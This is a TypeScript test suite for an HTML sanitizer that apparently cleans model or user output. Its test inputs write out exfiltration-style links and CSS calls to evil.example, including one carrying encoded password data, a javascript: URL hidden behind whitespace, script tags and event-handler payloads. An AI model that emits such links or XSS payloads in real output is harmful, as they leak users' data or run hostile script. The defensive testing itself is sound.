import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HTML_FIXTURES } from './fixtures/exfiltration.js';
import { detectHtmlRisks, sanitizeHtmlOutput } from './html.js';

const OPTIONS = { allowedHosts: ['img.ok.example'] };

describe('sanitizeHtmlOutput: known payloads', () => {
  for (const fixture of HTML_FIXTURES) {
    it(fixture.name, () => {
      const result = sanitizeHtmlOutput(fixture.text, OPTIONS);
      const found = new Set(result.matches.map((m) => m.type));
      for (const type of fixture.expect) expect(found, type).toContain(type);
      for (const gone of fixture.gone) expect(result.html.toLowerCase()).not.toContain(gone.toLowerCase());
      for (const kept of fixture.kept ?? []) expect(result.html).toContain(kept);
      for (const match of result.matches) {
        expect(match.start).toBeGreaterThanOrEqual(0);
        expect(match.end).toBeLessThanOrEqual(fixture.text.length);
      }
    });
  }
});

describe('sanitizeHtmlOutput: allowlist', () => {
  it('keeps formatting, lists, code, tables and safe links, adding rel', () => {
    const html =
      '<h2>Title</h2><p><strong>b</strong> <em>i</em> <code class="language-ts">x</code></p><ul><li>one</li></ul>' +
      '<table><tr><th>a</th></tr><tr><td>1</td></tr></table><a href="https://example.org/docs">docs</a>' +
      '<a href="mailto:team@example.org">mail</a>';
    const result = sanitizeHtmlOutput(html, OPTIONS);
    expect(result.matches).toEqual([]);
    expect(result.html).toContain('<h2>Title</h2>');
    expect(result.html).toContain('<code class="language-ts">x</code>');
    expect(result.html).toContain('<table>');
    expect(result.html).toContain('href="https://example.org/docs"');
    expect(result.html).toContain('rel="noopener noreferrer nofollow"');
    expect(result.html).toContain('href="mailto:team@example.org"');
  });
  it('keeps images from allowed hosts only', () => {
    const kept = sanitizeHtmlOutput('<img src="https://img.ok.example/a.png" alt="a">', OPTIONS);
    expect(kept.html).toBe('<img src="https://img.ok.example/a.png" alt="a" />');
    const removed = sanitizeHtmlOutput('<img src="https://other.example/a.png" alt="a">', OPTIONS);
    expect(removed.html).toBe('<span>(image removed: a)</span>');
    expect(removed.matches.map((m) => m.type)).toEqual(['html:exfil-image']);
  });
  it('drops the href of links that carry data to other hosts, keeps the text', () => {
    const result = sanitizeHtmlOutput(
      '<a href="https://evil.example/?d=VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy">Continue</a>',
      OPTIONS,
    );
    expect(result.html).toBe('<a rel="noopener noreferrer nofollow">Continue</a>');
    expect(result.matches.map((m) => m.type)).toEqual(['html:exfil-link']);
  });
  it('drops style attributes and unknown attributes', () => {
    const result = sanitizeHtmlOutput(
      '<p style="background:url(//evil.example)" data-x="1" id="a">t</p>',
      OPTIONS,
    );
    expect(result.html).toBe('<p>t</p>');
    expect(result.matches.map((m) => m.type)).toEqual(['html:style']);
  });
  it('sees a javascript: URL behind hundreds of leading spaces and controls', () => {
    const html = `<a href="${' \t\n'.repeat(200)}\u0001javascript:alert(1)">x</a>`;
    const result = sanitizeHtmlOutput(html, OPTIONS);
    expect(result.matches.map((m) => m.type)).toEqual(['html:javascript-url']);
    expect(result.html).toBe('<a rel="noopener noreferrer nofollow">x</a>');
  });
  it('locates the removed parts in the input', () => {
    const html = '<p>ok</p><script>alert(1)</script><b onclick="x()">b</b>';
    const matches = detectHtmlRisks(html);
    expect(matches.map((m) => html.slice(m.start, m.end))).toEqual([
      '<script>alert(1)</script>',
      'onclick="x()"',
    ]);
  });
  it('never lets a script, handler or javascript: URL through (property)', () => {
    const pieces = [
      '<',
      '>',
      '/',
      'script',
      'img',
      'a',
      ' src=x',
      ' onerror=alert(1)',
      ' href="',
      'javascript:',
      '"',
      "'",
      '&#x09;',
      'svg',
      ' ',
      '=',
      '<!--',
      '-->',
      'iframe',
      'style',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        const out = sanitizeHtmlOutput(parts.join(''), OPTIONS).html.toLowerCase();
        expect(out).not.toMatch(/<script|<svg|<iframe|<style|<[a-z]+ [^>]*(on[a-z]+=|href="javascript)/);
      }),
      { numRuns: 500 },
    );
  });
});
